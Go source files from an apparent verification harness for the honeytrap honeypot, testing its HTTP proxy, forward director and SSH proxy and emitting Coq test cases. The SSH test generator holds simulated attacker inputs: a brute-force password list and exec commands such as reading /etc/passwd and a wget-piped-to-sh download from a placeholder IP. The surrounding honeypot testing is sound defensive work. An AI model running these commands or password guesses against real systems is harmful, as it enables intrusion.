			ob.BPeersOK = false
		}
		// ... and on the backend address this connection's director and local port imply
		wantPort := e.portBE
		if in.NoPort {
			wantPort = lport
		}
		if la, ok := c.local.(*net.TCPAddr); !ok || la.Port != wantPort {
			ob.BPeersOK = false
		}
	}
	// events of this client
	want := remote.String()
	for _, ev := range e.l.EventsOf("cap") {
		if ev.Get("category") != "http" {
			continue
		}
		if ev.Get("remote-addr") != want {
			continue
		}
		var cl int64 = -2
		ev.Range(func(k, v interface{}) bool {
			if k == "content-length" {
				if x, ok := v.(int64); ok {
					cl = x
				}
			}
			return true
		})
		p := []byte(ev.Get("payload"))
		ob.Events = append(ob.Events, SEvent{Method: ev.Get("method"), URL: ev.Get("url"), CL: cl, PLen: len(p), PH: fnv64(p), SrcOK: true, Service: ev.Get("service")})
	}
	return ob, ""
}

func canonRespHeaders(h http.Header) [][2]string {
	hh := http.Header{}
	for k, v := range h {
		if strings.ToLower(k) == "connection" {
			continue
		}
		hh[k] = v
	}
	return canonHeaders(hh, nil)
}

// runGroup runs the cases of one group concurrently.
func (e *httpEnv) runGroup(ins []HttpInput, ids []string) ([]HttpObs, []string) {
	obs := make([]HttpObs, len(ins))
	crash := make([]string, len(ins))
	var wg sync.WaitGroup
	for i := range ins {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			obs[i], crash[i] = e.run(ins[i], ids[i])
		}(i)
	}
	wg.Wait()
	return obs, crash
}

// ---------- Coq rendering ----------

func coqPacked(b []byte) string {
	if len(b) == 0 {
		return "(@nil N)"
	}
	if len(b) < 24 {
		return hx.CoqBytes(b)
	}
	var sb strings.Builder
	fmt.Fprintf(&sb, "(unpack %d%%Z [", len(b))
	for i := 0; i < len(b); i += 7 {
		j := i + 7
		if j > len(b) {
			j = len(b)
		}
		var w uint64
		for _, x := range b[i:j] {
			w = w<<8 | uint64(x)
		}
		if i > 0 {
			sb.WriteString(";")
		}
		fmt.Fprintf(&sb, "0x%x", w)
	}
	sb.WriteString("]%uint63)")
	return sb.String()
}

func coqH(h uint64) string { return fmt.Sprintf("0x%x%%uint63", h) }

func coqHeaders(hs [][2]string) string {
	var es []string
	for _, h := range hs {
		es = append(es, "("+hx.CoqStr(h[0])+", "+hx.CoqStr(h[1])+")")
	}
	return hx.CoqList(es, "(bytes * bytes)")
}

func coqNs(xs []int) string {
	var es []string
	for _, x := range xs {
		es = append(es, hx.CoqN(uint64(x)))
	}
	return hx.CoqList(es, "N")
}

func coqHTTPCase(id int, in HttpInput, ob HttpObs) string {
	var msgs, items, reps, breqs, cresps, evs []string
	for _, m := range in.Msgs {
		msgs = append(msgs, coqPacked(m))
	}
	for _, it := range in.Items {
		if it.Seg > 0 {
			items = append(items, "CSeg "+hx.CoqN(uint64(it.Seg)))
		} else {
			items = append(items, "CWait "+hx.CoqN(uint64(it.Wait)))
		}
	}
	var closes []string
	for _, rp := range in.Replies {
		reps = append(reps, "("+coqPacked(rp.Raw)+", "+coqNs(rp.Cuts)+")")
		closes = append(closes, hx.CoqBool(rp.Close != ""))
	}
	for _, q := range ob.BReqs {
		breqs = append(breqs, fmt.Sprintf("mkSReq %s %s %s %s %s %s %s %s %s", hx.CoqStr(q.Method), hx.CoqStr(q.Target), hx.CoqStr(q.Host),
			coqHeaders(q.Headers), hx.CoqBool(q.Chunked), hx.CoqN(uint64(q.BodyLen)), coqH(q.BodyH), hx.CoqN(uint64(q.RawLen)), coqH(q.RawH)))
	}
	for _, p := range ob.CResps {
		cresps = append(cresps, fmt.Sprintf("mkSResp %s %s %s %s", hx.CoqN(uint64(p.Status)), coqHeaders(p.Headers), hx.CoqN(uint64(p.BodyLen)), coqH(p.BodyH)))
	}
	for _, e := range ob.Events {
		evs = append(evs, fmt.Sprintf("mkSEv %s %s %s %s %s %s", hx.CoqStr(e.Method), hx.CoqStr(e.URL), hx.CoqZ(e.CL), hx.CoqN(uint64(e.PLen)), coqH(e.PH), hx.CoqBool(e.SrcOK)))
	}
	return fmt.Sprintf("mkH %s %s %s %s %s\n     %s %s %s %s\n     %s %s %s",
		hx.CoqN(uint64(id)), hx.CoqList(msgs, "bytes"), hx.CoqList(items, "item"), hx.CoqList(reps, "(bytes * list N)"), hx.CoqList(closes, "bool"),
		hx.CoqList(breqs, "sreq"), hx.CoqN(uint64(ob.BConns)), hx.CoqBool(ob.BGarbage), hx.CoqBool(ob.BPeersOK),
		hx.CoqList(cresps, "sresp"), hx.CoqBool(ob.CGarbage), hx.CoqList(evs, "sevent"))
}

func minInt(a, b int) int {
	if a < b {
		return a
	}
	return b
}
