// C15 part "dial": the forward director's Dial, obtained through the public registry and
// configured from TOML, called with connections whose local address the harness chooses.
// Observed: the address the returned connection is connected to (or the address in the
// dial error).
package main

import (
	"fmt"
	"net"
	"time"

	"github.com/BurntSushi/toml"
	"github.com/honeytrap/honeytrap/director"
	_ "github.com/honeytrap/honeytrap/director/forward"
	"github.com/honeytrap/honeytrap/server"
	"verif/harness/hx"
	"verif/harness/lab"
)

type DialInput struct {
	Host      string `json:"host"`
	Proto     string `json:"proto"` // tcp | udp | other (a local address that is neither)
	LocalPort int    `json:"local_port"`
	Wrapped   bool   `json:"wrapped"` // connection wrapped in server.TimeoutConn, as the server does
	// Before: connections the SAME director instance has dialled for before this one (one
	// director is shared by all the services and ports that name it); replay repeats them
	Before []DialInput `json:"before,omitempty"`
}

type DialObs struct {
	Outcome string `json:"outcome"` // connected | refused | unsupported | error
	Net     string `json:"net"`
	IP      hx.B   `json:"ip"` // 16-byte form
	Port    int    `json:"port"`
}

type otherAddr struct{}

func (otherAddr) Network() string { return "pipe" }
func (otherAddr) String() string  { return "pipe" }

func mkDirector(host string) (director.Director, error) {
	var cfg struct {
		D toml.Primitive `toml:"d"`
	}
	md, err := toml.Decode("[d]\ntype=\"forward\"\nhost="+hx.TomlStr(host)+"\n", &cfg)
	if err != nil {
		return nil, err
	}
	fn, ok := director.Get("forward")
	if !ok {
		return nil, fmt.Errorf("forward director not registered")
	}
	return fn(director.WithConfig(cfg.D, &md))
}

func runDial(in DialInput) (DialObs, string) {
	d, err := mkDirector(in.Host)
	if err != nil {
		hx.Fatal("director: %v", err)
	}
	for _, b := range in.Before {
		runDialOn(d, b)
	}
	return runDialOn(d, in)
}

func runDialOn(d director.Director, in DialInput) (DialObs, string) {
	var ob DialObs
	var local net.Addr
	switch in.Proto {
	case "tcp":
		local = &net.TCPAddr{IP: net.ParseIP("192.0.2.1"), Port: in.LocalPort}
	case "udp":
		local = &net.UDPAddr{IP: net.ParseIP("192.0.2.1"), Port: in.LocalPort}
	default:
		local = otherAddr{}
	}
	sc, cc := lab.Pipe(local, &net.TCPAddr{IP: net.ParseIP("198.51.100.9"), Port: 4444})
	defer cc.Close()
	defer sc.Close()
	var conn net.Conn = sc
	if in.Wrapped {
		conn = server.TimeoutConn(sc, 30*time.Second)
	}
	type res struct {
		c   net.Conn
		err error
	}
	ch := make(chan res, 1)
	go func() {
		c, err := d.Dial(conn)
		ch <- res{c, err}
	}()
	var r res
	select {
	case r = <-ch:
	case <-time.After(10 * time.Second):
		return ob, "Dial did not return"
	}
	if r.err != nil {
		if oe, ok := r.err.(*net.OpError); ok && oe.Addr != nil {
			ob.Outcome = "refused"
			fillAddr(&ob, oe.Addr)
			return ob, ""
		}
		if r.err.Error() == "Unsupported protocol" {
			ob.Outcome = "unsupported"
			return ob, ""
		}
		ob.Outcome = "error"
		return ob, ""
	}
	defer r.c.Close()
	ob.Outcome = "connected"
	fillAddr(&ob, r.c.RemoteAddr())
	return ob, ""
}

func fillAddr(ob *DialObs, a net.Addr) {
	switch x := a.(type) {
	case *net.TCPAddr:
		ob.Net, ob.IP, ob.Port = "tcp", hx.B(x.IP.To16()), x.Port
	case *net.UDPAddr:
		ob.Net, ob.IP, ob.Port = "udp", hx.B(x.IP.To16()), x.Port
	}
}

func coqDialCase(id int, in DialInput, ob DialObs) string {
	k := map[string]string{"tcp": "LTcp", "udp": "LUdp"}[in.Proto]
	if k == "" {
		k = "LOther"
	}
	oc := map[string]string{"connected": "OConnected", "refused": "ORefused", "unsupported": "OUnsupported", "error": "OError"}[ob.Outcome]
	n := map[string]string{"tcp": "LTcp", "udp": "LUdp"}[ob.Net]
	if n == "" {
		n = "LOther"
	}
	return fmt.Sprintf("mkD %s %s %s %s %s %s %s %s", hx.CoqN(uint64(id)), hx.CoqStr(in.Host), k, hx.CoqN(uint64(in.LocalPort)),
		oc, n, hx.CoqBytes(ob.IP), hx.CoqN(uint64(ob.Port)))
}

func runDialPart(o hx.Opts, r *hx.Rand, e *env, replay *Input) {
	var ins []DialInput
	B, D := e.ports[pHTTP], e.ports[pDecoy]
	if replay != nil {
		ins = []DialInput{*replay.Dial}
	} else {
		hosts := []string{
			fmt.Sprintf("127.0.0.1:%d", B), "127.0.0.1", "127.0.0.2", fmt.Sprintf("127.0.0.2:%d", e.ports[pNP]),
			fmt.Sprintf("localhost:%d", B), "localhost", fmt.Sprintf("[::1]:%d", B), "::1", "[::1]",
			"127.0.0.1:", fmt.Sprintf(":%d", B), "", fmt.Sprintf("127.0.0.1:%d:%d", B, D), fmt.Sprintf("[127.0.0.1]:%d", B),
			fmt.Sprintf("127.0.0.1]:%d", B), fmt.Sprintf("[127.0.0.1:%d", B), "127.0.0.1:0", "127.0.0.1:65535", "[::1]:", "::ffff:127.0.0.1",
			fmt.Sprintf("[::1]%d", B), fmt.Sprintf("[::1]x:%d", B), fmt.Sprintf("[::1]::%d", B), "[", "]", ":", "::", "[]:" + fmt.Sprint(B),
			fmt.Sprintf("127.0.0.1:%d", e.ports[pRaw]), fmt.Sprintf("127.0.0.1:%d", e.ports[pDNS]),
		}
		lports := []int{B, D, 80, 22, 0, 65535, e.ports[pNP], e.ports[pRaw], e.ports[pDNS]}
		n := 150
		if o.Tier != "quick" {
			n = 1200
		}
		// every host once with each kind of local address, then random combinations
		for _, h := range hosts {
			for _, p := range []string{"tcp", "udp", "other"} {
				ins = append(ins, DialInput{Host: h, Proto: p, LocalPort: lports[r.Intn(len(lports))], Wrapped: true})
			}
		}
		// one director instance shared by two or three listening ports: hosts with and without a
		// port, the connections in every order; each dial must follow its OWN connection's port
		shared := []string{"127.0.0.1", "127.0.0.2", "localhost", "::1", fmt.Sprintf("127.0.0.1:%d", B), fmt.Sprintf("[::1]:%d", B)}
		for _, h := range shared {
			ports := []int{B, e.ports[pNP], e.ports[pRaw]}
			for rot := 0; rot < 3; rot++ {
				var before []DialInput
				for k := 0; k < 2+rot%2; k++ {
					c := DialInput{Host: h, Proto: []string{"tcp", "udp"}[(k+rot)%2], LocalPort: ports[(k+rot)%3], Wrapped: true}
					if k == 0 {
						c.Proto = "tcp"
					}
					full := c
					full.Before = append([]DialInput(nil), before...)
					ins = append(ins, full)
					before = append(before, c)
				}
			}
		}
		for i := 0; i < n; i++ {
			ins = append(ins, DialInput{Host: hosts[r.Intn(len(hosts))], Proto: r.PickStr([]string{"tcp", "tcp", "udp", "udp", "other"}),
				LocalPort: lports[r.Intn(len(lports))], Wrapped: r.Chance(3, 4)})
		}
	}
	dist := map[string]int{}
	var cases []hx.Case
	for i, in := range ins {
		ob, crash := runDial(in)
		dist["local:"+in.Proto]++
		if len(in.Before) > 0 {
			dist["shared-director-instance"]++
		}
		dist["outcome:"+ob.Outcome]++
		inp := in
		cases = append(cases, hx.Case{ID: i, Kind: "dial", Input: Input{Part: "dial", Dial: &inp}, Obs: ob, Crash: crash, Coq: coqDialCase(i, in, ob)})
	}
	// name resolution table for the model: what the literal hosts used above stand for
	v4 := func(s string) string { return hx.CoqBytes(net.ParseIP(s).To16()) }
	table := "[(" + hx.CoqStr("127.0.0.1") + ", [" + v4("127.0.0.1") + "]); (" + hx.CoqStr("127.0.0.2") + ", [" + v4("127.0.0.2") + "]); (" +
		hx.CoqStr("localhost") + ", [" + v4("127.0.0.1") + "; " + v4("::1") + "]); (" + hx.CoqStr("::1") + ", [" + v4("::1") + "]); (" +
		hx.CoqStr("") + ", [" + v4("127.0.0.1") + "; " + v4("::1") + "; (@nil N)]); (" + hx.CoqStr("::") + ", [" + v4("127.0.0.1") + "; " + v4("::1") + "; " + v4("::") + "]); (" +
		hx.CoqStr("::ffff:127.0.0.1") + ", [" + v4("127.0.0.1") + "])]"
	header := coqHeader + "Import DialCheck.\nDefinition RESOLVE : list (bytes * list bytes) := " + table + ".\n" +
		"Definition mismatches := mismatches_with RESOLVE.\nDefinition violations := violations_with RESOLVE.\n"
	hx.Write(o, "C15", "dial", header, "case", cases, dist, nil, 400)
}
