// C15 part "ssh": the real ssh-proxy service behind the real server; harness SSH backend
// (x/crypto/ssh server) on loopback; harness SSH client over an injected connection.
package main

import (
	"crypto/ed25519"
	"crypto/rand"
	"crypto/sha256"
	"fmt"
	"io"
	"net"
	"regexp"
	"strings"
	"sync"
	"time"

	"golang.org/x/crypto/ssh"
	"verif/harness/hx"
)

type SSHReq struct {
	Type    string `json:"type"`
	Want    bool   `json:"want_reply"`
	Payload hx.B   `json:"payload"`
}

type SSHInput struct {
	User      string   `json:"user"`
	Passwords []string `json:"passwords"` // the client's plan: presented in this order on ONE connection until one is accepted
	// PubKeys: distinct public keys the client offers (after the initial "none" request,
	// before its passwords); the proxy refuses them itself and x/crypto/ssh counts them as
	// failed requests like the passwords
	PubKeys int      `json:"pubkeys,omitempty"`
	Accept  string   `json:"accept"` // the password the backend accepts for this user ("" = none)
	Reqs    []SSHReq `json:"requests"`
	Data    []hx.B   `json:"data"`  // client -> backend channel writes
	Reply   []hx.B   `json:"reply"` // backend -> client channel writes
	Texty   bool     `json:"texty"` // reply drawn from an alphabet the session recording renders unambiguously
	// HalfClose: the client ends its direction (EOF) after its data; the backend writes its
	// reply only once it has seen that end (after DelayMs more), then closes the channel
	HalfClose bool `json:"half_close,omitempty"`
	Shared    bool `json:"shared_port,omitempty"` // the proxy's port is shared with a detector service listed before it
	DelayMs   int  `json:"delay_ms,omitempty"`
}

type SSHObs struct {
	ClientOK  bool        `json:"client_authenticated"`
	PkSent    int         `json:"client_pubkey_offers"`     // public-key offers the client made
	Sent      int         `json:"client_passwords_sent"`    // passwords the client sent (a prefix of the plan)
	Verdicts  []int       `json:"client_password_verdicts"` // per password sent: 0 told failure, 1 told success, 2 told nothing (connection ended)
	End       int         `json:"client_end"`               // 0 authenticated, 1 out of credentials (told failure for each and asked again), 2 the peer ended the connection first
	EvPk      int         `json:"events_publickey"`
	BAuth     [][2]string `json:"backend_auth"` // (user, password) attempts the backend saw, in order
	BConns    int         `json:"backend_connections"`
	BReqs     []SSHReq    `json:"backend_requests"`
	BData     hx.B        `json:"backend_data"`
	CData     hx.B        `json:"client_data"`
	Replies   []bool      `json:"request_replies"` // what the client was told for its want-reply requests
	EvPw      [][2]string `json:"events_password"`
	EvReqs    []string    `json:"events_request_types"`
	EvChan    int         `json:"events_channel"`
	EvSess    int         `json:"events_session"`
	Recording hx.B        `json:"recording"` // concatenated .put('...') contents of the ssh-session event
	EvSrcOK   bool        `json:"events_attributed"`
}

// ---------- backend ----------

type sshScript struct {
	accept   string
	nReqs    int
	wantData int
	reply    [][]byte
	trigger  bool // reply starts at a shell/exec request (else when the channel opens)
	afterEOF bool // reply only after the client's end of stream
	delayMs  int
}

type sshSess struct {
	user  string
	reqs  []SSHReq
	data  []byte
	done  chan struct{}
	alive bool
}

type sshBackend struct {
	mu      sync.Mutex
	ln      net.Listener
	cfgBase ssh.ServerConfig
	signer  ssh.Signer
	scripts map[string]sshScript
	auth    map[string][][2]string // user -> attempts
	conns   map[string]int         // user -> tcp connections that got as far as an auth attempt
	sess    map[string][]*sshSess
}

var okTypes = map[string]bool{"env": true, "pty-req": true, "shell": true, "exec": true}

func newSSHBackend(addr string) (*sshBackend, error) {
	_, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		return nil, err
	}
	signer, err := ssh.NewSignerFromKey(priv)
	if err != nil {
		return nil, err
	}
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return nil, err
	}
	b := &sshBackend{ln: ln, signer: signer, scripts: map[string]sshScript{}, auth: map[string][][2]string{}, conns: map[string]int{}, sess: map[string][]*sshSess{}}
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go b.handle(c)
		}
	}()
	return b, nil
}

func (b *sshBackend) handle(c net.Conn) {
	defer c.Close()
	counted := false
	cfg := &ssh.ServerConfig{
		PasswordCallback: func(cm ssh.ConnMetadata, pw []byte) (*ssh.Permissions, error) {
			b.mu.Lock()
			defer b.mu.Unlock()
			u := cm.User()
			b.auth[u] = append(b.auth[u], [2]string{u, string(pw)})
			if !counted {
				counted = true
				b.conns[u]++
			}
			if sc, ok := b.scripts[u]; ok && sc.accept != "" && sc.accept == string(pw) {
				return nil, nil
			}
			return nil, fmt.Errorf("denied")
		},
	}
	cfg.AddHostKey(b.signer)
	sconn, chans, reqs, err := ssh.NewServerConn(c, cfg)
	if err != nil {
		return
	}
	defer sconn.Close()
	go ssh.DiscardRequests(reqs)
	user := sconn.User()
	for nc := range chans {
		if nc.ChannelType() != "session" {
			nc.Reject(ssh.UnknownChannelType, "no")
			continue
		}
		ch, creqs, err := nc.Accept()
		if err != nil {
			continue
		}
		b.mu.Lock()
		sc := b.scripts[user]
		ss := &sshSess{user: user, done: make(chan struct{})}
		b.sess[user] = append(b.sess[user], ss)
		b.mu.Unlock()
		go b.session(ch, creqs, sc, ss)
	}
}

func (b *sshBackend) session(ch ssh.Channel, reqs <-chan *ssh.Request, sc sshScript, ss *sshSess) {
	defer close(ss.done)
	var wg sync.WaitGroup
	var once sync.Once
	writeReply := func() {
		once.Do(func() {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for _, w := range sc.reply {
					if _, err := ch.Write(w); err != nil {
						return
					}
				}
			}()
		})
	}
	if !sc.trigger && !sc.afterEOF {
		writeReply()
	}
	reqsDone := make(chan struct{})
	go func() {
		n := 0
		closed := false
		for r := range reqs {
			b.mu.Lock()
			ss.reqs = append(ss.reqs, SSHReq{Type: r.Type, Want: r.WantReply, Payload: append([]byte(nil), r.Payload...)})
			b.mu.Unlock()
			if r.WantReply {
				r.Reply(okTypes[r.Type], nil)
			}
			if (r.Type == "shell" || r.Type == "exec") && !sc.afterEOF {
				writeReply()
			}
			n++
			if n >= sc.nReqs && !closed {
				closed = true
				close(reqsDone)
			}
		}
		if !closed {
			close(reqsDone)
		}
	}()
	if sc.nReqs == 0 {
		// nothing to wait for
	}
	buf := make([]byte, 32768)
	got := 0
	for got < sc.wantData || sc.afterEOF {
		n, err := ch.Read(buf)
		b.mu.Lock()
		ss.data = append(ss.data, buf[:n]...)
		b.mu.Unlock()
		got += n
		if err != nil {
			break
		}
	}
	if sc.nReqs > 0 {
		select {
		case <-reqsDone:
		case <-time.After(3 * time.Second):
		}
	}
	if sc.delayMs > 0 {
		time.Sleep(time.Duration(sc.delayMs) * time.Millisecond)
	}
	writeReply()
	wg.Wait()
	ch.Close()
}

// ---------- client + observation ----------

var putRe = regexp.MustCompile(`\.put\('([^']*)'\)`)

func (e *env) runSSH(in SSHInput, seq int) (SSHObs, string) {
	var ob SSHObs
	be := e.sshBE
	total := 0
	for _, d := range in.Data {
		total += len(d)
	}
	var reply [][]byte
	for _, r := range in.Reply {
		reply = append(reply, r)
	}
	trig := false
	for _, q := range in.Reqs {
		if q.Type == "shell" || q.Type == "exec" {
			trig = true
		}
	}
	be.mu.Lock()
	be.scripts[in.User] = sshScript{accept: in.Accept, nReqs: len(in.Reqs), wantData: total, reply: reply, trigger: trig, afterEOF: in.HalfClose, delayMs: in.DelayMs}
	be.mu.Unlock()

	sc, cc, err := tcpPair()
	if err != nil {
		hx.Fatal("tcp pair: %v", err)
	}
	remote := &net.TCPAddr{IP: net.ParseIP("198.51.100.9"), Port: 30000 + seq}
	lport := 22
	if in.Shared {
		lport = 2222
	}
	srv := &addrConn{Conn: sc, L: &net.TCPAddr{IP: net.ParseIP("127.0.0.1"), Port: lport}, R: remote, closed: make(chan struct{})}
	if !inject(srv) {
		return ob, "server does not accept"
	}
	defer cc.Close()
	// The client's side of the authentication dialogue.  x/crypto/ssh asks the callback for
	// the next password only after the previous one was answered with a failure, so a call
	// number i+1 is the observation "attempt i was refused and the connection is open";
	// the call after the last password of the plan is answered with an error (the client
	// stops by itself).  A connection ended by the peer shows as an error without that.
	pi, outOfPasswords, pkOffers := 0, false, 0
	var auth []ssh.AuthMethod
	if in.PubKeys > 0 {
		var signers []ssh.Signer
		for i := 0; i < in.PubKeys; i++ {
			signers = append(signers, &countingSigner{Signer: offerKey(in.User, i), n: &pkOffers})
		}
		auth = append(auth, ssh.PublicKeys(signers...))
	}
	auth = append(auth, ssh.RetryableAuthMethod(ssh.PasswordCallback(func() (string, error) {
		if pi >= len(in.Passwords) {
			outOfPasswords = true
			return "", fmt.Errorf("no more passwords")
		}
		p := in.Passwords[pi]
		pi++
		return p, nil
	}), len(in.Passwords)+1))
	ccfg := &ssh.ClientConfig{
		User:            in.User,
		HostKeyCallback: ssh.InsecureIgnoreHostKey(),
		Timeout:         10 * time.Second,
		Auth:            auth,
	}
	cc.SetDeadline(time.Now().Add(60 * time.Second))
	cconn, chans, reqs, err := ssh.NewClientConn(cc, "proxy", ccfg)
	ob.PkSent, ob.Sent = pkOffers, pi
	for i := 0; i+1 < pi; i++ {
		ob.Verdicts = append(ob.Verdicts, 0)
	}
	switch {
	case err == nil:
		ob.End = 0
		if pi > 0 {
			ob.Verdicts = append(ob.Verdicts, 1)
		}
	case outOfPasswords:
		ob.End = 1
		if pi > 0 {
			ob.Verdicts = append(ob.Verdicts, 0)
		}
	default:
		ob.End = 2
		if pi > 0 {
			ob.Verdicts = append(ob.Verdicts, 2)
		}
	}
	if err == nil {
		ob.ClientOK = true
		client := ssh.NewClient(cconn, chans, reqs)
		ch, creqs, err := client.OpenChannel("session", nil)
		if err != nil {
			client.Close()
			return ob, "session channel refused: " + err.Error()
		}
		go ssh.DiscardRequests(creqs)
		rd := make(chan struct{})
		var got []byte
		go func() {
			defer close(rd)
			got, _ = io.ReadAll(ch)
		}()
		for _, q := range in.Reqs {
			ok, err := ch.SendRequest(q.Type, q.Want, q.Payload)
			if err != nil {
				break
			}
			if q.Want {
				ob.Replies = append(ob.Replies, ok)
			}
		}
		for _, d := range in.Data {
			if _, err := ch.Write(d); err != nil {
				break
			}
		}
		if in.HalfClose {
			ch.CloseWrite()
		}
		select {
		case <-rd:
		case <-time.After(8 * time.Second):
			client.Close()
			return ob, "session did not end"
		}
		ob.CData = got
		ch.Close()
		client.Close()
	}
	cc.Close()
	select {
	case <-srv.closed:
	case <-time.After(8 * time.Second):
		return ob, "proxy did not close the client connection"
	}
	// backend side
	time.Sleep(20 * time.Millisecond)
	be.mu.Lock()
	sessions := append([]*sshSess(nil), be.sess[in.User]...)
	be.mu.Unlock()
	for _, s := range sessions {
		select {
		case <-s.done:
		case <-time.After(3 * time.Second):
		}
	}
	be.mu.Lock()
	ob.BAuth = append([][2]string(nil), be.auth[in.User]...)
	ob.BConns = be.conns[in.User]
	for _, s := range sessions {
		ob.BReqs = append(ob.BReqs, s.reqs...)
		ob.BData = append(ob.BData, s.data...)
	}
	be.mu.Unlock()
	// events (sent asynchronously: wait until the expected ones are there or a short while)
	deadline := time.Now().Add(600 * time.Millisecond)
	for {
		ob.EvPw, ob.EvReqs, ob.EvChan, ob.EvSess, ob.Recording, ob.EvSrcOK, ob.EvPk = nil, nil, 0, 0, nil, true, 0
		for _, ev := range e.l.EventsOf("cap") {
			if ev.Get("category") != "ssh" {
				continue
			}
			mine := false
			if ev.Get("ssh.username") == in.User {
				mine = true
			}
			var sport interface{}
			ev.Range(func(k, v interface{}) bool {
				if k == "source-port" {
					sport = v
				}
				return true
			})
			if p, ok := sport.(int); ok && p == remote.Port && ev.Get("source-ip") == remote.IP.String() {
				mine = true
			} else if mine {
				ob.EvSrcOK = false
			}
			if !mine {
				continue
			}
			switch ev.Get("type") {
			case "publickey-authentication":
				ob.EvPk++
			case "password-authentication":
				ob.EvPw = append(ob.EvPw, [2]string{ev.Get("ssh.username"), ev.Get("ssh.password")})
			case "ssh-request":
				ob.EvReqs = append(ob.EvReqs, ev.Get("ssh.request-type"))
			case "ssh-channel":
				ob.EvChan++
			case "ssh-session":
				ob.EvSess++
				for _, m := range putRe.FindAllStringSubmatch(ev.Get("ssh.recording"), -1) {
					ob.Recording = append(ob.Recording, m[1]...)
				}
			}
		}
		want := 0
		if ob.ClientOK {
			want = len(in.Reqs)
		}
		if (len(ob.EvReqs) >= want && (!ob.ClientOK || ob.EvSess >= 1) && len(ob.EvPw) >= len(ob.BAuth) && ob.EvPk >= ob.PkSent) || time.Now().After(deadline) {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	return ob, ""
}

// countingSigner counts how often the client library fetches the public key for an offer
// (once per offer as long as the offer is refused).
type countingSigner struct {
	ssh.Signer
	n *int
}

func (c *countingSigner) PublicKey() ssh.PublicKey {
	*c.n++
	return c.Signer.PublicKey()
}

// offerKey: the i-th key a client offers; a function of the case (replayable), distinct per user and index.
func offerKey(user string, i int) ssh.Signer {
	seed := sha256.Sum256([]byte(fmt.Sprintf("c15-offer/%s/%d", user, i)))
	s, err := ssh.NewSignerFromKey(ed25519.NewKeyFromSeed(seed[:]))
	if err != nil {
		hx.Fatal("offer key: %v", err)
	}
	return s
}

// genAuthDialogues: MANY authentication requests on ONE client connection: k passwords the
// backend refuses and then one it accepts (or none: the client gives up by itself), with and
// without public-key offers first (they count as refused requests in x/crypto/ssh's
// loop exactly like passwords).  After a success one short exec exchange both ways.
func genAuthDialogues(o hx.Opts, r *hx.Rand) []SSHInput {
	var ins []SSHInput
	type dlg struct {
		k, pk  int
		accept bool
	}
	var ds []dlg
	for _, k := range []int{0, 1, 2, 5, 6, 7, 8, 12, 20} {
		ds = append(ds, dlg{k, 0, true})
	}
	// histories that never succeed
	for _, k := range []int{0, 6, 7, 12} {
		ds = append(ds, dlg{k, 0, false})
	}
	// offers first
	ds = append(ds, dlg{3, 3, true}, dlg{1, 6, true}, dlg{0, 7, true}, dlg{4, 2, false}, dlg{6, 1, true}, dlg{5, 1, true})
	if o.Tier != "quick" {
		for i := 0; i < 40; i++ {
			ds = append(ds, dlg{r.PickInt([]int{0, 1, 2, 5, 6, 7, 8, 12, 20}), r.PickInt([]int{0, 0, 1, 2, 3, 5, 6, 7, 9}), r.Chance(3, 4)})
		}
	}
	wrong := []string{"toor", "admin", "123456", "raspberry", "p@ss w0rd'\"", "", "ubnt", "root", "password", "1234"}
	for i, d := range ds {
		in := SSHInput{User: fmt.Sprintf("brute%d", i), PubKeys: d.pk}
		good := fmt.Sprintf("right-%d", i)
		for j := 0; j < d.k; j++ {
			// guesses repeat now and then, as a dictionary run does: each one is still to be relayed
			if j > 0 && r.Chance(1, 6) {
				in.Passwords = append(in.Passwords, in.Passwords[r.Intn(j)])
			} else {
				in.Passwords = append(in.Passwords, fmt.Sprintf("%s-%d", wrong[r.Intn(len(wrong))], j))
			}
		}
		if d.accept {
			in.Accept = good
			in.Passwords = append(in.Passwords, good)
			// the client does not know it will be accepted: its plan goes on (never sent)
			if r.Chance(1, 2) {
				in.Passwords = append(in.Passwords, "never-sent")
			}
			cmd := r.PickStr([]string{"uname -a", "id", "cat /etc/passwd"})
			in.Reqs = []SSHReq{{Type: "exec", Want: true, Payload: ssh.Marshal(struct{ Command string }{cmd})}}
			if r.Chance(1, 2) {
				in.Reqs = append([]SSHReq{{Type: "env", Want: r.Bool(), Payload: sshPayload(r, "env")}}, in.Reqs...)
			}
			in.Texty = true
			in.Data = []hx.B{hx.B(r.Bytes(r.PickInt([]int{1, 10, 100})))}
			in.Reply = []hx.B{hx.B(r.BytesFrom(r.PickInt([]int{1, 40, 400}), []byte("abcdefghijklmnopqrstuvwxyz0123456789 \r\n$#:/-_")))}
		} else {
			in.Accept = fmt.Sprintf("never-%d", i)
		}
		in.Shared = i%3 == 1
		ins = append(ins, in)
	}
	return ins
}

func sshPayload(r *hx.Rand, ty string) []byte {
	switch ty {
	case "env":
		return ssh.Marshal(struct{ Name, Value string }{r.PickStr([]string{"LANG", "TERM", "LC_ALL"}), r.PickStr([]string{"C", "xterm", "en_US.UTF-8"})})
	case "pty-req":
		return ssh.Marshal(struct {
			Term                 string
			Cols, Rows, Wpx, Hpx uint32
			Modes                string
		}{"xterm", 80, 24, 0, 0, "\x00"})
	case "exec":
		return ssh.Marshal(struct{ Command string }{r.PickStr([]string{"uname -a", "cat /etc/passwd", "wget http://198.51.100.1/x.sh -O- | sh", "id"})})
	case "shell":
		return nil
	default:
		return r.Bytes(r.PickInt([]int{0, 1, 8, 40}))
	}
}

func genSSHInputs(o hx.Opts, r *hx.Rand) []SSHInput {
	var ins []SSHInput
	// corpus: a large reply followed at once by the backend closing the channel (as sshd
	// does after the command's output); before the repair fc51d79 the proxy's request
	// goroutine closed the client's channel while the data copier was still at work
	ins = append(ins, SSHInput{User: "root-corpus", Passwords: []string{"toor"}, Accept: "toor",
		Reqs: []SSHReq{{Type: "exec", Want: true, Payload: ssh.Marshal(struct{ Command string }{"cat /var/log/big"})}},
		Data: nil, Reply: []hx.B{hx.B(r.Bytes(131072))}})
	// corpus: "ssh host cmd < input": data, end of input, and only then the command's output (1 byte .. 128 KiB)
	for i, sz := range []int{1, 4096, 131072} {
		ins = append(ins, SSHInput{User: fmt.Sprintf("root-halfclose%d", i), Passwords: []string{"toor"}, Accept: "toor",
			Reqs: []SSHReq{{Type: "exec", Want: true, Payload: ssh.Marshal(struct{ Command string }{"sort"})}},
